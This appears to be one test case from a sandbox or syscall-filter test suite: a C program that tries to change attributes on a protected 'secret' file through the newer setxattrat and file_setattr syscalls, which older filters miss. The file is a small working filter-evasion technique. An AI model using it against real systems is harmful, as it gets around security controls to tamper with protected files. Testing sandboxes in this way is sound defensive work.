/* technique: sets attributes by calls younger than most filters: setxattrat and file_setattr
 * source: setxattrat(2), Linux 6.13; file_setattr(2), Linux 6.17
 * success: vault/secret.txt has another time of change
 * policy: kept
 * control: outside
 */
#include "attack.h"

int main(void)
{
	struct {
		uint64_t value;
		uint32_t size, flags;
	} args = { (uintptr_t) "x", 1, 0 };
	struct {
		uint64_t xflags;
		uint32_t extsize, nextents, projid, cowextsize;
	} attributes = { .xflags = 0x80 /* FS_XFLAG_NODUMP */ };

	if (syscall(463, AT_FDCWD, SECRET_FILE, 0, "user.planted", &args, sizeof args) &&
	    syscall(469, AT_FDCWD, SECRET_FILE, &attributes, sizeof attributes, 0))
		return failed("setxattrat");
	return 0;
}
